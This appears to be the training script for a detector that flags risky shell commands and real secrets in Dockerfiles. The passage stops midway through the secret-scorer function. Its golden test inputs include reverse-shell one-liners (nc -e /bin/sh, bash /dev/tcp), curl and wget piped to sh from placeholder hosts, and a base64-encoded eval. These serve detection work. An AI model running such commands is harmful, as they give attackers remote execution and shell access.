"""Drydock model training: cmd-risk and secret-scorer (run by train.sh with Debian's /usr/bin/python3).

    /usr/bin/python3 models/training/train.py [--only cmd-risk|secret-scorer] [--no-reverse] [--out DIR]

Everything is seeded (SEED below); datasets and features are deterministic, and torch on CPU with a fixed
thread count gives the same weights run to run. Splits are BY SOURCE: see build_cmd_data / build_secret_data.
"""
import argparse
import datetime
import hashlib
import json
import os
import random
import sys
import time
import zlib
from collections import Counter, OrderedDict

import numpy as np
import torch

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)

import corpus  # noqa: E402
import gen_cmd  # noqa: E402
import gen_secret  # noqa: E402
from featurize import (CMD_DIM, CMD_FEATURIZER, FEATURIZER, SEC_DIM, cmd_sparse, secret_sparse, sparse_record, to_dense)  # noqa: E402
from quantize import Int8Reference, quantize_row8  # noqa: E402
import secret_parts as secret_parts_module  # noqa: E402
from secret_parts import secret_parts  # noqa: E402

SEED = 20240501
VERSION = "1.0.0"
LABELS = corpus.LABELS
SECRET_LABELS = ["placeholder", "secret"]
MODELS_DIR = os.path.dirname(HERE)

N_GEN_BENIGN = 16000
N_GEN_RISKY = 1500          # per category
N_SECRET_PER_CLASS = 20000
SECRET_MEMBERS = 3          # seeds averaged in the secret scorer
FP_BUDGET_PER_CATEGORY = 0.001   # validation benign false-positive rate allowed per category (8 x 0.1 % <= 0.8 %)


def log(*a):
    print("[train %s]" % time.strftime("%H:%M:%S"), *a, flush=True)


def crc(s: str) -> int:
    return zlib.crc32(s.encode("utf-8", "surrogatepass"))


def seed_all(seed):
    random.seed(seed)
    np.random.seed(seed)
    torch.manual_seed(seed)


# ------------------------------------------------------------------------------------- shell splitting
def split_subcommands(line: str):
    """Split a RUN-style line at top-level &&, || and ; (outside quotes, (), {} and $( )). Pipelines stay whole."""
    line = line.strip()
    if line.endswith("\\"):
        line = line[:-1].rstrip()
    out, cur, i, depth, q = [], [], 0, 0, None
    while i < len(line):
        c = line[i]
        if q:
            cur.append(c)
            if c == "\\" and q == '"' and i + 1 < len(line):
                cur.append(line[i + 1])
                i += 2
                continue
            if c == q:
                q = None
            i += 1
            continue
        if c == "\\" and i + 1 < len(line):
            cur.append(c)
            cur.append(line[i + 1])
            i += 2
            continue
        if c in "'\"":
            q = c
        elif c in "({":
            depth += 1
        elif c in ")}":
            depth = max(0, depth - 1)
        if depth == 0 and (line.startswith("&&", i) or line.startswith("||", i)):
            out.append("".join(cur))
            cur = []
            i += 2
            continue
        if depth == 0 and c == ";":
            if line.startswith(";;", i):
                cur.append(";;")
                i += 2
                continue
            out.append("".join(cur))
            cur = []
            i += 1
            continue
        cur.append(c)
        i += 1
    out.append("".join(cur))
    return [s.strip() for s in out if s.strip() and s.strip() not in ("\\",)]


def read_nonblank(path):
    with open(path, encoding="utf-8") as f:
        return [ln.rstrip("\n") for ln in f if ln.strip() and not ln.startswith("#")]


# ------------------------------------------------------------------------------------------ cmd data
def build_cmd_data(direction="A"):
    """Returns (rows, report). rows: dicts text,label,source,split with split in train/val/test.

    Direction A (shipped): risky training = generators + atomic-red-team; risky test = PayloadsAllTheThings +
    hand-written risky. Direction B (reported only): generators + PayloadsAllTheThings; test = atomic-red-team +
    hand-written risky. Benign: training = tldr + nl2bash + generated Dockerfile lines; test = the hand-written
    Dockerfile lines (both directions).
    """
    r = random.Random(SEED)
    rep = OrderedDict()
    rows = []
    test_texts = set()

    # held-out test sources ----------------------------------------------------------------------------
    held_benign = []
    for ln in read_nonblank(os.path.join(HERE, "heldout", "dockerfile-benign.txt")):
        held_benign.extend(split_subcommands(ln))
    held_benign = list(OrderedDict.fromkeys(held_benign))
    for t in held_benign:
        rows.append({"text": t, "label": 0, "source": "handwritten-dockerfile", "split": "test"})
        test_texts.add(t)
    for ln in read_nonblank(os.path.join(HERE, "heldout", "risky-handwritten.tsv")):
        cat, t = ln.split("\t", 1)
        rows.append({"text": t.strip(), "label": LABELS.index(cat), "source": "handwritten-risky", "split": "test"})
        test_texts.add(t.strip())

    # shared corpus ----------------------------------------------------------------------------------------
    raw = corpus.load_corpus()
    src_name = {"atomic-red-team": "atomic-red-team", "payloadsallthethings": "payloadsallthethings"}
    risky_test_src = "payloadsallthethings" if direction == "A" else "atomic-red-team"
    dropped = Counter()
    mapped = Counter()
    benign_dropped = Counter()
    seen = set()
    corpus_rows = []
    for row in raw:
        text = row["text"].strip()
        if row["label"] == 1:
            cat, why = corpus.map_risky(text, row["group"])
            src = src_name[row["source"]]
            if cat is None:
                dropped[(src, why.split(" (")[0])] += 1
                continue
            text = corpus.clean_text(text)
            key = (text, src)
            if key in seen:
                dropped[(src, "duplicate")] += 1
                continue
            seen.add(key)
            mapped[(src, cat)] += 1
            corpus_rows.append({"text": text, "label": LABELS.index(cat), "source": src})
        else:
            src = row["source"]
            if corpus.risky_evidence(text):
                benign_dropped[src] += 1
                continue
            if (text, src) in seen:
                benign_dropped[src + " (duplicate)"] += 1
                continue
            seen.add((text, src))
            corpus_rows.append({"text": text[:400], "label": 0, "source": src})
    rep["corpus_risky_mapped"] = {"%s/%s" % k: v for k, v in sorted(mapped.items())}
    rep["corpus_risky_dropped"] = {"%s: %s" % k: v for k, v in sorted(dropped.items())}
    rep["corpus_benign_dropped_for_risky_evidence"] = dict(sorted(benign_dropped.items()))

    for cr in corpus_rows:
        if cr["source"] == risky_test_src:
            cr["split"] = "test"
            test_texts.add(cr["text"])
        else:
            cr["split"] = "val" if crc(cr["text"]) % 10 == 0 else "train"
        rows.append(cr)

    # generators ------------------------------------------------------------------------------------------
    gen_b = []
    for fam, t in gen_cmd.benign_lines(r, N_GEN_BENIGN):
        for s in split_subcommands(t):
            gen_b.append((fam, s))
    seen_b = set()
    for fam, t in gen_b:
        if t in seen_b:
            continue
        seen_b.add(t)
        rows.append({"text": t, "label": 0, "source": "gen-dockerfile", "split": "val" if crc(t) % 10 == 0 else "train", "family": fam})
    for cat in LABELS[1:]:
        for fam, t in gen_cmd.risky_lines(r, cat, N_GEN_RISKY):
            rows.append({"text": t, "label": LABELS.index(cat), "source": "gen-risky", "split": "val" if crc(t) % 10 == 0 else "train", "family": fam})

    # no training/validation row may equal a test row -------------------------------------------------------
    overlap = Counter()
    kept = []
    for row in rows:
        if row["split"] != "test" and row["text"] in test_texts:
            overlap[row["source"]] += 1
            continue
        kept.append(row)
    rep["removed_from_training_as_equal_to_a_test_row"] = dict(overlap)
    # a text with conflicting labels inside training: keep the risky one only once, drop the benign copy
    risky_train = {row["text"] for row in kept if row["split"] != "test" and row["label"] != 0}
    conflicts = Counter()
    rows = []
    for row in kept:
        if row["split"] != "test" and row["label"] == 0 and row["text"] in risky_train:
            conflicts[row["source"]] += 1
            continue
        rows.append(row)
    rep["benign_rows_dropped_as_identical_to_risky_training_rows"] = dict(conflicts)
    counts = Counter((row["split"], row["source"], LABELS[row["label"]]) for row in rows)
    rep["counts"] = {"%s/%s/%s" % k: v for k, v in sorted(counts.items())}
    return rows, rep


# ------------------------------------------------------------------------------------------ secret data
# The test set is a sealed set: written by an author who never saw gen_secret.py, committed before any model was
# trained against it, and scored once. Sets whose errors have been read (the first hand-written set, then the first
# sealed set, which missed the target and was then studied) are development sets, reported as such.
SECRET_TEST_FILE = ("secrets-sealed-3.tsv", "sealed-secrets-3", "test")
SECRET_DEV_FILES = [("secrets-handwritten.tsv", "handwritten-secrets", "dev"), ("secrets-sealed-1.tsv", "sealed-secrets-1", "dev"),
                    ("secrets-sealed-2.tsv", "sealed-secrets-2", "dev")]


def read_secret_file(file_name, source, split):
    out = []
    path = os.path.join(HERE, "heldout", file_name)
    # A development run (generator or pipeline changes checked on the development sets) must not score the sealed set.
    if split == "test" and os.environ.get("DRYDOCK_DEVELOPMENT_RUN") == "1":
        log("secret-scorer: DRYDOCK_DEVELOPMENT_RUN=1: the sealed test set is not read")
        return out
    if not os.path.exists(path):
        return out
    for ln in read_nonblank(path):
        parts = ln.split("\t")
        while len(parts) < 4:
            parts.append("")
        label, ctx, name, value = parts[0], parts[1], parts[2], "\t".join(parts[3:])
        out.append({"value": value, "name": name, "context": ctx, "label": int(label), "source": source, "split": split})
    return out


def build_secret_data():
    r = random.Random(SEED + 1)
    held = read_secret_file(*SECRET_TEST_FILE) + [row for f in SECRET_DEV_FILES for row in read_secret_file(*f)]
    held_values = {t["value"] for t in held} | {p["value"] for t in held for p in secret_parts(t["value"], t["name"], t["context"])}
    rows = []
    removed = 0
    for row in gen_secret.rows(r, N_SECRET_PER_CLASS):
        if row["value"] in held_values:
            removed += 1
            continue
        row["source"] = "gen-secrets"
        row["split"] = "val" if crc(row["value"] + "\x00" + row["name"]) % 10 == 0 else "train"
        rows.append(row)
    rows.extend(held)
    rep = OrderedDict()
    rep["removed_from_training_as_equal_to_a_test_value"] = removed
    counts = Counter((row["split"], row["source"], SECRET_LABELS[row["label"]]) for row in rows)
    rep["counts"] = {"%s/%s/%s" % k: v for k, v in sorted(counts.items())}
    return rows, rep


# --------------------------------------------------------------------------------------------- model
class MLP(torch.nn.Module):
    def __init__(self, dims, in_dropout=0.1, dropout=0.2):
        super().__init__()
        layers = [torch.nn.Dropout(in_dropout)]
        for i in range(len(dims) - 1):
            layers.append(torch.nn.Linear(dims[i], dims[i + 1]))
            if i < len(dims) - 2:
                layers.append(torch.nn.ReLU())
                layers.append(torch.nn.Dropout(dropout))
        self.net = torch.nn.Sequential(*layers)

    def forward(self, x):
        return self.net(x)


class WithSoftmax(torch.nn.Module):
    def __init__(self, m):
        super().__init__()
        self.m = m

    def forward(self, features):
        return torch.softmax(self.m(features), dim=-1)


class MeanOfMembers(torch.nn.Module):
    """Averages the probabilities of independently seeded members; returns log-probabilities, so the softmax the
    export appends gives back the mean. Averaging seeds is the plain remedy for one network's over-confidence on
    inputs unlike its training data."""

    def __init__(self, members):
        super().__init__()
        self.members = torch.nn.ModuleList(members)

    def forward(self, features):
        total = torch.softmax(self.members[0](features), dim=-1)
        for m in self.members[1:]:
            total = total + torch.softmax(m(features), dim=-1)
        return torch.log(total / float(len(self.members)) + 1e-12)


def train_mlp(x, y, dims, n_classes, epochs, lr, seed, class_weight, batch=256, in_dropout=0.1, dropout=0.2, smoothing=0.0, wd=1e-4):
    seed_all(seed)
    model = MLP(dims, in_dropout=in_dropout, dropout=dropout)
    opt = torch.optim.AdamW(model.parameters(), lr=lr, weight_decay=wd)
    xt = torch.from_numpy(x)
    yt = torch.from_numpy(y.astype(np.int64))
    w = torch.tensor(class_weight, dtype=torch.float32)
    loss_fn = torch.nn.CrossEntropyLoss(weight=w, label_smoothing=smoothing)
    g = torch.Generator()
    g.manual_seed(seed)
    steps = epochs * ((len(y) + batch - 1) // batch)
    sched = torch.optim.lr_scheduler.OneCycleLR(opt, max_lr=lr, total_steps=steps, pct_start=0.15)
    for ep in range(epochs):
        model.train()
        perm = torch.randperm(len(y), generator=g)
        tot = 0.0
        for i in range(0, len(y), batch):
            idx = perm[i:i + batch]
            opt.zero_grad()
            loss = loss_fn(model(xt[idx]), yt[idx])
            loss.backward()
            opt.step()
            sched.step()
            tot += float(loss) * len(idx)
        log("  epoch %d/%d loss %.4f" % (ep + 1, epochs, tot / len(y)))
    model.eval()
    return model


def torch_probs(model, x):
    with torch.no_grad():
        out = []
        for i in range(0, len(x), 2048):
            out.append(torch.softmax(model(torch.from_numpy(x[i:i + 2048])), dim=-1).numpy())
        return np.concatenate(out, axis=0) if out else np.zeros((0, 2), np.float32)


def export(model, dim, fp32_path, int8_path):
    wrapped = WithSoftmax(model).eval()
    dummy = torch.zeros(1, dim, dtype=torch.float32)
    torch.onnx.export(wrapped, dummy, fp32_path, input_names=["features"], output_names=["probs"],
                      dynamic_axes={"features": {0: "batch"}, "probs": {0: "batch"}}, opset_version=13, do_constant_folding=True)
    quantize_row8(fp32_path, int8_path)


QUANTIZED = "row8 int8 (per-row uint8 activations, per-column int8 weights, MatMulInteger), opset 13"


def write_manifest_and_card(out_dir, manifest, card_text):
    with open(os.path.join(out_dir, "model.json"), "w") as f:
        json.dump(manifest, f, indent=2)
        f.write("\n")
    with open(os.path.join(out_dir, "MODEL_CARD.md"), "w") as f:
        f.write(card_text)


def sha256_file(p):
    h = hashlib.sha256()
    with open(p, "rb") as f:
        h.update(f.read())
    return h.hexdigest()


# -------------------------------------------------------------------------------------- cmd metrics
def decide(P, thresholds):
    """the host's rule: the risky label with the highest probability among those at/above threshold"""
    t = np.array([np.inf] + [thresholds[l] for l in LABELS[1:]], dtype=np.float64)
    ok = P >= t[None, :]
    masked = np.where(ok, P, -1.0)
    best = masked.argmax(axis=1)
    flagged = ok.any(axis=1)
    return np.where(flagged, best, 0), flagged


def pick_thresholds(P, y, budget):
    benign = P[y == 0]
    th = {}
    grid = np.round(np.arange(0.30, 0.9951, 0.005), 4)
    for c, l in enumerate(LABELS):
        if c == 0:
            continue
        chosen = 0.995
        for t in grid:
            if (benign[:, c] >= t).mean() <= budget:
                chosen = float(t)
                break
        th[l] = chosen
    return th


def auc_pr(scores, pos):
    from sklearn.metrics import average_precision_score, roc_auc_score
    if pos.all() or (~pos).all():
        return None, None
    return float(roc_auc_score(pos, scores)), float(average_precision_score(pos, scores))


def cmd_metrics(P, rows, thresholds):
    y = np.array([r["label"] for r in rows])
    src = np.array([r["source"] for r in rows])
    pred, flagged = decide(P, thresholds)
    m = OrderedDict()
    risky = y != 0
    m["rows"] = int(len(y))
    m["risky_rows"] = int(risky.sum())
    m["benign_rows"] = int((~risky).sum())
    m["risky_recall"] = round(float(flagged[risky].mean()), 4) if risky.any() else None
    m["risky_recall_correct_category"] = round(float((pred[risky] == y[risky]).mean()), 4) if risky.any() else None
    m["false_positive_rate"] = round(float(flagged[~risky].mean()), 4) if (~risky).any() else None
    m["false_positives"] = int(flagged[~risky].sum())
    roc, ap = auc_pr(1.0 - P[:, 0], risky)
    m["risk_score_roc_auc"] = None if roc is None else round(roc, 4)
    m["risk_score_pr_auc"] = None if ap is None else round(ap, 4)
    per = OrderedDict()
    for c, l in enumerate(LABELS):
        if c == 0:
            continue
        sel = y == c
        if sel.any():
            per[l] = {"n": int(sel.sum()), "recall": round(float(flagged[sel].mean()), 4), "correct_category": round(float((pred[sel] == c).mean()), 4)}
    m["per_category"] = per
    ps = OrderedDict()
    for s in sorted(set(src)):
        sel = src == s
        ys = y[sel]
        if (ys != 0).any():
            ps[s] = {"n": int(sel.sum()), "recall": round(float(flagged[sel][ys != 0].mean()), 4)}
        else:
            ps[s] = {"n": int(sel.sum()), "false_positive_rate": round(float(flagged[sel].mean()), 4), "false_positives": int(flagged[sel].sum())}
    m["per_source"] = ps
    return m


# ----------------------------------------------------------------------------------- golden vectors
EDGE_CMDS = ["", "a", "ÄPT-GET INSTALL -Y CURL", "echo 'héllo wörld' > /tmp/ü.txt", "curl -fsSL http://10.0.0.1:8080/x.sh | sh",
             "echo \u00a0|\u00a0sh", "python3 -c 'print(\"日本語\")'", "echo 😀 && echo done", "x" * 450, "RUN\tapt-get\tupdate",
             "cat a\u2028| sh", "wget -qO- https://example.com/i.sh |bash\n", "nc 1.2.3.4 4444 -e /bin/sh ", "bash -i >& /dev/tcp/1.2.3.4/1 0>&1",
             "lone \ud800 surrogate", "ABCDEFGHIJKLMNOPQRSTUVWXYZ 0123456789 0007 12a34", "eval $(echo ZWNobyBoaQ== | base64 -d)"]
EDGE_SECRETS = [("", "", "other"), ("changeme", "DB_PASSWORD", "dockerfile-env"), ("${DB_PASS}", "password", "compose-env"),
                ("ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8", "GITHUB_TOKEN", "dockerfile-arg"), ("<token>", "apiKey", "k8s-env"),
                ("sha256:" + "ab" * 32, "digest", "other"), ("v1.2.3-rc.1", "VERSION", "dockerfile-env"), ("Pässwörd-ÜÖ-2024", "myPassWord", "cli-flag"),
                ("x" * 300, "N" * 200, "url-credential"), ("true", "ENABLED", "k8s-env"), ("550e8400-e29b-41d4-a716-446655440000", "requestId", "other"),
                ("-----BEGIN RSA PRIVATE KEY-----abc", "key", "other"), ("a b c", "camelCaseName_with-MIXED9Parts", "unknown-context"), ("😀🔑secret", "emoji", "other"),
                ("[PASSWORD]", "X", "dockerfile-env"), ("/run/secrets/db", "PASS_FILE", "compose-env"), ("123456", "PIN", "other"), ("lone\ud800", "s\udfff", "other")]


def golden_records(inputs, sparse_fn, dim, model, ref):
    recs = []
    sps = [sparse_fn(i) for i in inputs]
    x = to_dense(sps, dim)
    pf = torch_probs(model, x)
    pq = ref.run(x)
    for inp, sp, a, b in zip(inputs, sps, pf, pq):
        idx, vals = sparse_record(sp)
        recs.append(OrderedDict([("input", inp), ("indices", idx), ("values", vals),
                                 ("probs", [round(float(v), 7) for v in a]), ("probsInt8", [round(float(v), 7) for v in b])]))
    return recs


def measure_latency(model, sparse_fn, dim, inputs, ref):
    t0 = time.perf_counter()
    for _ in range(5):
        x = to_dense([sparse_fn(i) for i in inputs], dim)
    feat = (time.perf_counter() - t0) / 5
    with torch.no_grad():
        t0 = time.perf_counter()
        for _ in range(20):
            torch.softmax(model(torch.from_numpy(x)), dim=-1)
        fwd = (time.perf_counter() - t0) / 20
    t0 = time.perf_counter()
    ref.run(x)
    q = time.perf_counter() - t0
    return {"batch": len(inputs), "featurize_ms": round(feat * 1000, 2), "torch_fp32_forward_ms": round(fwd * 1000, 2),
            "numpy_int8_forward_ms": round(q * 1000, 2)}


def write_jsonl(path, rows, keys):
    with open(path, "w", encoding="utf-8") as f:
        for r in rows:
            f.write(json.dumps(OrderedDict((k, r[k]) for k in keys), ensure_ascii=False) + "\n")


def trained_at():
    sde = os.environ.get("SOURCE_DATE_EPOCH")
    t = datetime.datetime.fromtimestamp(int(sde), datetime.timezone.utc) if sde else datetime.datetime.now(datetime.timezone.utc)
    return t.replace(microsecond=0).isoformat().replace("+00:00", "Z")


# ---------------------------------------------------------------------------------------- cmd-risk
def run_cmd(out_dir, reverse=True):
    from model_card import cmd_card
    t_start = time.time()
    log("cmd-risk: building data (direction A: PayloadsAllTheThings held out)")
    rows, rep = build_cmd_data("A")
    for k, v in rep["counts"].items():
        log("   ", k, v)
    tr = [r for r in rows if r["split"] == "train"]
    va = [r for r in rows if r["split"] == "val"]
    te = [r for r in rows if r["split"] == "test"]
    t0 = time.time()
    log("cmd-risk: featurizing %d rows" % len(rows))
    xtr = to_dense([cmd_sparse(r["text"]) for r in tr], CMD_DIM)
    xva = to_dense([cmd_sparse(r["text"]) for r in va], CMD_DIM)
    xte = to_dense([cmd_sparse(r["text"]) for r in te], CMD_DIM)
    feat_s = time.time() - t0
    ytr = np.array([r["label"] for r in tr])
    cnt = np.bincount(ytr, minlength=len(LABELS)).astype(np.float64)
    cw = [float(min(8.0, (cnt[0] / max(1.0, c)) ** 0.5)) for c in cnt]
    log("cmd-risk: class counts", cnt.astype(int).tolist(), "weights", [round(w, 2) for w in cw])
    t0 = time.time()
    model = train_mlp(xtr, ytr, [CMD_DIM, 256, 64, len(LABELS)], len(LABELS), epochs=6, lr=2e-3, seed=SEED, class_weight=cw)
    train_s = time.time() - t0
    fp32_path = os.path.join(out_dir, "model.fp32.onnx.tmp")
    onnx_path = os.path.join(out_dir, "model.onnx")
    export(model, CMD_DIM, fp32_path, onnx_path)
    fp32_size = os.path.getsize(fp32_path)
    os.remove(fp32_path)
    ref = Int8Reference(onnx_path)
    log("cmd-risk: scoring validation/test with torch fp32 and the numpy int8 reference")
    pva_q, pte_q = ref.run(xva), ref.run(xte)
    pva_f, pte_f = torch_probs(model, xva), torch_probs(model, xte)
    # development run: how high must a threshold be to keep the false-positive rate on a benign source the model
    # never saw at 1 %? Train on tldr + generated rows only, score nl2bash (benign) and atomic-red-team (risky).
    log("cmd-risk: development run (train: tldr + generated; unseen: nl2bash, atomic-red-team)")
    dtr = [r for r in tr if r["source"] in ("tldr", "gen-dockerfile", "gen-risky")]
    ddv = [r for r in tr + va if r["source"] in ("nl2bash", "atomic-red-team")]
    xd = to_dense([cmd_sparse(r["text"]) for r in dtr], CMD_DIM)
    yd = np.array([r["label"] for r in dtr])
    cntd = np.bincount(yd, minlength=len(LABELS)).astype(np.float64)
    md = train_mlp(xd, yd, [CMD_DIM, 256, 64, len(LABELS)], len(LABELS), epochs=6, lr=2e-3, seed=SEED, class_weight=[float(min(8.0, (cntd[0] / max(1.0, c)) ** 0.5)) for c in cntd])
    del xd
    pd_ = torch_probs(md, to_dense([cmd_sparse(r["text"]) for r in ddv], CMD_DIM))
    ydv = np.array([r["label"] for r in ddv])
    mxd = pd_[:, 1:].max(axis=1)
    ben = np.sort(mxd[ydv == 0])[::-1]
    t_dev = float(ben[int(0.01 * len(ben))])
    floor = float(min(0.95, max(0.5, np.ceil(t_dev * 20) / 20)))
    dev = OrderedDict([("train_sources", ["tldr", "gen-dockerfile", "gen-risky"]), ("unseen_benign", "nl2bash"), ("unseen_risky", "atomic-red-team"),
                       ("benign_rows", int((ydv == 0).sum())), ("risky_rows", int((ydv != 0).sum())),
                       ("threshold_for_1pct_fpr", round(t_dev, 4)), ("recall_at_that_threshold", round(float((mxd[ydv != 0] >= t_dev).mean()), 4)),
                       ("risk_score_roc_auc", round(auc_pr(1 - pd_[:, 0], ydv != 0)[0], 4)), ("threshold_floor", floor)])
    log("cmd-risk: development floor", floor, dict(dev))
    thresholds = pick_thresholds(pva_q, np.array([r["label"] for r in va]), FP_BUDGET_PER_CATEGORY)
    thresholds = {k: max(v, floor) for k, v in thresholds.items()}
    log("cmd-risk: thresholds", thresholds)
    metrics = OrderedDict()
    metrics["development"] = dev
    metrics["test"] = cmd_metrics(pte_q, te, thresholds)
    metrics["test_torch_fp32"] = {k: v for k, v in cmd_metrics(pte_f, te, thresholds).items() if k in ("risky_recall", "false_positive_rate", "risk_score_pr_auc")}
    metrics["validation"] = cmd_metrics(pva_q, va, thresholds)
    metrics["int8_vs_fp32_max_abs_diff_test"] = round(float(np.abs(pte_q - pte_f).max()), 5)
    metrics["int8_vs_fp32_decision_flips_test"] = int((decide(pte_q, thresholds)[1] != decide(pte_f, thresholds)[1]).sum())
    # rules-only baseline: any of the strong structural flags
    strong = [0, 1, 4, 5, 11, 13]
    fl = xte[:, [4096 + i for i in strong]].max(axis=1) > 0
    yte = np.array([r["label"] for r in te])
    metrics["baseline_structural_flags"] = {"flags": strong, "risky_recall": round(float(fl[yte != 0].mean()), 4), "false_positive_rate": round(float(fl[yte == 0].mean()), 4)}
    log("cmd-risk: TEST recall %.4f FPR %.4f" % (metrics["test"]["risky_recall"], metrics["test"]["false_positive_rate"]))
    # reverse direction (report only) -----------------------------------------------------------------
    if reverse:
        log("cmd-risk: direction B (atomic-red-team held out), report only")
        rows_b, rep_b = build_cmd_data("B")
        trb = [r for r in rows_b if r["split"] == "train"]
        vab = [r for r in rows_b if r["split"] == "val"]
        teb = [r for r in rows_b if r["split"] == "test"]
        xb = to_dense([cmd_sparse(r["text"]) for r in trb], CMD_DIM)
        yb = np.array([r["label"] for r in trb])
        cntb = np.bincount(yb, minlength=len(LABELS)).astype(np.float64)
        cwb = [float(min(8.0, (cntb[0] / max(1.0, c)) ** 0.5)) for c in cntb]
        mb = train_mlp(xb, yb, [CMD_DIM, 256, 64, len(LABELS)], len(LABELS), epochs=6, lr=2e-3, seed=SEED, class_weight=cwb)
        del xb
        pvb = torch_probs(mb, to_dense([cmd_sparse(r["text"]) for r in vab], CMD_DIM))
        thb = {k: max(v, floor) for k, v in pick_thresholds(pvb, np.array([r["label"] for r in vab]), FP_BUDGET_PER_CATEGORY).items()}
        ptb = torch_probs(mb, to_dense([cmd_sparse(r["text"]) for r in teb], CMD_DIM))
        mtb = cmd_metrics(ptb, teb, thb)
        metrics["reverse_direction_B_torch_fp32"] = OrderedDict([("held_out", "atomic-red-team + handwritten-risky + handwritten-dockerfile"),
                                                                  ("thresholds", thb), ("risky_recall", mtb["risky_recall"]),
                                                                  ("false_positive_rate", mtb["false_positive_rate"]), ("per_source", mtb["per_source"]),
                                                                  ("per_category", mtb["per_category"])])
        log("cmd-risk: direction B recall %.4f FPR %.4f" % (mtb["risky_recall"], mtb["false_positive_rate"]))
    # artifacts ------------------------------------------------------------------------------------------
    ev = [{"text": r["text"], "label": LABELS[r["label"]], "source": r["source"]} for r in te]
    write_jsonl(os.path.join(out_dir, "eval.jsonl"), ev, ["text", "label", "source"])
    gr = random.Random(SEED + 7)
    pick = gr.sample(range(len(te)), 40) + [None] * 0
    gin = [te[i]["text"] for i in sorted(pick)] + gr.sample([r["text"] for r in va], 10) + EDGE_CMDS
    golden = golden_records(gin, cmd_sparse, CMD_DIM, model, ref)
    with open(os.path.join(out_dir, "golden.json"), "w", encoding="utf-8") as f:
        json.dump(golden, f, ensure_ascii=True, indent=0)
        f.write("\n")
    golden_diff = max(abs(a - b) for g in golden for a, b in zip(g["probs"], g["probsInt8"]))
    metrics["golden_max_abs_diff_fp32_vs_int8"] = round(golden_diff, 5)
    size = os.path.getsize(onnx_path)
    sha = sha256_file(onnx_path)
    latency = measure_latency(model, cmd_sparse, CMD_DIM, [r["text"] for r in te[:30]], ref)
    data = OrderedDict([("report", rep), ("class_weights", dict(zip(LABELS, [round(w, 3) for w in cw])))])
    with open(os.path.join(out_dir, "metrics.json"), "w") as f:
        json.dump(OrderedDict([("model", "cmd-risk"), ("version", VERSION), ("sha256", sha), ("thresholds", thresholds), ("metrics", metrics), ("data", data)]), f, indent=2)
        f.write("\n")
    timing = {"featurize_all_s": round(feat_s, 1), "train_s": round(train_s, 1), "total_s": round(time.time() - t_start, 1), "latency_30_lines": latency}
    manifest = OrderedDict([
        ("name", "drydock-cmd-risk"), ("version", VERSION), ("task", "cmd-risk"), ("featurizer", CMD_FEATURIZER), ("inputName", "features"),
        ("inputDim", CMD_DIM), ("outputName", "probs"), ("labels", LABELS), ("thresholds", thresholds), ("sha256", sha), ("trainedAt", trained_at()),
        ("metrics", OrderedDict([("heldOutSources", ["payloadsallthethings", "handwritten-risky", "handwritten-dockerfile"]),
                                 ("riskyRecall", metrics["test"]["risky_recall"]), ("falsePositiveRate", metrics["test"]["false_positive_rate"]),
                                 ("riskyRows", metrics["test"]["risky_rows"]), ("benignRows", metrics["test"]["benign_rows"]),
                                 ("perCategoryRecall", {k: v["recall"] for k, v in metrics["test"]["per_category"].items()}),
                                 ("probs", "numpy re-implementation of the row8 graph (any batch: rows are independent)"), ("evalFile", "eval.jsonl")])),
        ("sizeBytes", size), ("architecture", "MLP 4112-256-64-9, ReLU, softmax in graph; " + QUANTIZED),
        ("timing", timing),
    ])
    write_manifest_and_card(out_dir, manifest, cmd_card(manifest, metrics, rep, thresholds, size, fp32_size, timing, cw, golden_diff))
    log("cmd-risk: done, %d bytes, sha256 %s" % (size, sha))
    return metrics


# ---------------------------------------------------------------------------------------- secrets
def sec_metrics(p, rows, threshold):
    y = np.array([r["label"] for r in rows])
    flag = p >= threshold
    tp = int((flag & (y == 1)).sum())
    fp = int((flag & (y == 0)).sum())
    fn = int((~flag & (y == 1)).sum())
    m = OrderedDict()
    m["rows"] = int(len(y))
    m["secrets"] = int((y == 1).sum())
    m["placeholders"] = int((y == 0).sum())
    m["precision"] = round(tp / max(1, tp + fp), 4)
    m["recall"] = round(tp / max(1, tp + fn), 4)
    m["false_positives"] = fp
    m["false_negatives"] = fn
    roc, ap = auc_pr(p, y == 1)
    m["roc_auc"] = None if roc is None else round(roc, 4)
    m["pr_auc"] = None if ap is None else round(ap, 4)
    ctx = OrderedDict()
    for c in gen_secret.CONTEXTS:
        sel = np.array([r["context"] == c for r in rows])
        if sel.any():
            ys, fs = y[sel], flag[sel]
            ctx[c] = {"n": int(sel.sum()), "recall": round(float(fs[ys == 1].mean()), 4) if (ys == 1).any() else None,
                      "false_positive_rate": round(float(fs[ys == 0].mean()), 4) if (ys == 0).any() else None}
    m["per_context"] = ctx
    return m


def pick_secret_threshold(p, y, min_precision=0.98):
    best = 0.5
    for t in np.round(np.arange(0.05, 0.9951, 0.005), 4):
        f = p >= t
        tp = (f & (y == 1)).sum()
        prec = tp / max(1, f.sum())
        if prec >= min_precision:
            best = float(t)
            break
    return best


def asked_parts(rows):
    """The parts of each row the model is asked about (secret_parts, public values left out), with the row each
    came from: the product judges a URL by its password and never asks about a documented example."""
    parts, owner = [], []
    for i, r in enumerate(rows):
        for p in secret_parts(r["value"], r["name"], r["context"]):
            if "publicAs" not in p:
                parts.append(dict(r, value=p["value"], name=p["name"], context=p["context"]))
                owner.append(i)
    return parts, np.array(owner, dtype=np.int64)


def row_scores(prob_fn, rows):
    """P(real secret) per row: the highest of its asked parts; 0 for a row with none (all public)."""
    parts, owner = asked_parts(rows)
    p = np.zeros(len(rows))
    if parts:
        np.maximum.at(p, owner, prob_fn(to_dense([secret_sparse(r["value"], r["name"], r["context"]) for r in parts], SEC_DIM))[:, 1])
    return p


def run_secret(out_dir):
    from model_card import secret_card
    t_start = time.time()
    log("secret-scorer: building data")
    rows, rep = build_secret_data()
    for k, v in rep["counts"].items():
        log("   ", k, v)
    tr = [r for r in rows if r["split"] == "train"]
    va = [r for r in rows if r["split"] == "val"]
    te = [r for r in rows if r["split"] == "test"]
    dv = [r for r in rows if r["split"] == "dev"]
    t0 = time.time()
    tr_parts, _ = asked_parts(tr)
    rep["training_rows_after_parts"] = len(tr_parts)
    rep["public_values"], rep["public_patterns"] = len(secret_parts_module.PUBLIC_VALUES), len(secret_parts_module.PUBLIC_PATTERNS)
    xtr = to_dense([secret_sparse(r["value"], r["name"], r["context"]) for r in tr_parts], SEC_DIM)
    feat_s = time.time() - t0
    ytr = np.array([r["label"] for r in tr_parts])
    t0 = time.time()
